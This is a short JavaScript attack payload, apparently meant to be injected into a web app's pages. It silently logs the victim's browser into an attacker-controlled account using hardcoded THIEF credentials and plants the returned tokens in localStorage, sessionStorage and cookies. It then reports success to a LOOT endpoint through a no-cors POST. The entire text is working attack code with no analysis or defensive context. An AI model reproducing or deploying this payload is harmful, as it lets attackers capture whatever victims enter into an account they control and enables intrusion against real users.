// Logs in to the attacker's account with a request that is the same as the app's own, and stores the tokens as the app
// does where script keeps them.
(async () => {
  const response = await fetch(LOGIN, {
    method: "POST", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ email: THIEF.email, password: THIEF.password }),
  });
  const tokens = await response.text();
  for (const store of [localStorage, sessionStorage]) store.setItem("tokens", tokens);
  for (const [name, value] of Object.entries(JSON.parse(tokens))) {
    if (typeof value === "string") document.cookie = `${name}=${value}; path=/`;
  }
  await fetch(LOOT, { method: "POST", mode: "no-cors", body: `logged in: ${response.status}` });
})();
